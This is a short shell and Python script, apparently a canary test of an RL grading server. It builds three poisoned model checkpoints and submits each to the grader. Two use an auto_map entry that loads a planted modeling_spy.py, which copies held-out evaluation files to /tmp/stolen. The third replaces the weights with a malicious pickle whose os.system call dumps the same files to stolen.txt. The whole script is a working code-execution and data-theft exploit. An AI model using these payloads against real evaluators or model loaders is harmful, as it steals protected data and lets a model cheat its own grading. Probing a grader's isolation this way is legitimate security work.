#!/bin/sh
set -x
cd "$WORKSPACE"
post() { echo "CANARY $1 -> $(curl -sS -m 600 -X POST "$GRADING_SERVER_URL/submit" -H 'Content-Type: application/json' -d "{\"model_path\": \"$1\"}")"; }
cp -rL "$MODEL_PATH" output/auto-map
cp -rL "$MODEL_PATH" output/auto-map-tokenizer
# The base model with its weights replaced by a pickle (its tokenizer kept, so loading reaches the weights).
cp -rL "$MODEL_PATH" output/pickled
rm -f output/pickled/*.safetensors output/pickled/*.safetensors.index.json
python3 - <<'PY'
import json, os, pickle

SPY = '''
import glob, os
# What a custom-code checkpoint would do inside an evaluator: read the held-out data and score itself.
for path in glob.glob("/opt/a2rl/heldout/*") + glob.glob("/**/heldout/*", recursive=True):
    open("/tmp/stolen", "a").write(open(path).read())
'''
for name, target in (("auto-map", "config.json"), ("auto-map-tokenizer", "tokenizer_config.json")):
    d = os.path.join("output", name)
    path = os.path.join(d, target)
    cfg = json.load(open(path)) if os.path.exists(path) else {}
    cfg["auto_map"] = {"AutoModelForCausalLM": "modeling_spy.Spy", "AutoTokenizer": ["modeling_spy.Spy", None]}
    json.dump(cfg, open(path, "w"))
    open(os.path.join(d, "modeling_spy.py"), "w").write(SPY)

class Payload:
    def __reduce__(self):
        return (os.system, ("cat /opt/a2rl/heldout/* > /opt/a2rl/out/stolen.txt",))

with open("output/pickled/pytorch_model.bin", "wb") as f:
    pickle.dump({"weight": Payload()}, f)
print("CANARY built the custom-code checkpoints")
PY
for p in auto-map auto-map-tokenizer pickled; do post "output/$p"; done
echo "CANARY done"
